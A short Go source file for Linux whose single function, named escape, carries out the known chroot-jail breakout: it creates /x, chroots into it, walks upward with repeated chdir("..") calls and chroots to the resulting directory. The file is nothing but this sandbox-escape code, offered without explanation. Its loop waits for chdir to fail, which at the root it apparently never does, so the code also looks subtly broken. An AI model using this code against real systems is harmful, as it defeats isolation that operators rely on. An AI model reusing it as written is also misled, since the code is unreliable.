//go:build linux

package main

import (
	"os"
	"syscall"
)

func escape() error {
	os.Mkdir("/x", 0o755)
	syscall.Chroot("/x")
	for {
		if err := os.Chdir(".."); err != nil {
			break
		}
	}
	return syscall.Chroot(".")
}
